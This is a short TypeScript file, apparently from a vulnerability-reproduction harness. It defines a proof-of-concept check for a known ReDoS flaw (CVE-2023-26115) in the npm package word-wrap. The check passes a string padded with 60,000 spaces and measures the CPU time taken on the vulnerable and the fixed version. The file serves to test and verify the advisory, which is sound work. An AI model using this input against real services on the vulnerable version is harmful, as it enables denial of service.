import { defineProof } from '../define-proof.ts';

/** Wraps a text with very many spaces and takes the time. */
export const wordWrapTime = defineProof({
  name: 'word-wrap-time',
  ids: ['CVE-2023-26115', 'GHSA-j8xg-fqg3-53r7'],
  ecosystem: 'npm',
  package: 'word-wrap',
  kind: 'redos',
  describes: 'Wraps a text with very many spaces and takes the time.',
  shownOn: { vulnerable: '1.2.3', fixed: '1.2.4' },
  source: `
module.exports = ({ load, cpuMs }) => {
  const subject = load();
  const answers = subject('one two', { width: 5 }).includes('one');
  const reproduced =
    cpuMs(() => {
      try {
        subject('a' + ' '.repeat(60_000) + 'b', { trim: true, width: 1_000_000 });
      } catch {
        // Refusing is an answer as well.
      }
    }) > 1_000;
  return { reproduced, answers };
};
`,
});
